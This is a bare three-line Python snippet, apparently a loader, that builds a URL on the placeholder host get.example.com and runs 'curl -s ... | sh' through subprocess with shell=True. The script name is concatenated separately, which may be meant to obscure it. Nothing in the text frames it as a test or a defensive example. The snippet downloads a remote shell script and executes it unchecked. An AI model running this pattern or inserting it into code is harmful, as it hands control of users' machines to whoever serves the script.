import os, subprocess
url = 'http://get.example.com/' + 'x.sh'
subprocess.call('curl -s ' + url + ' | sh', shell=True)
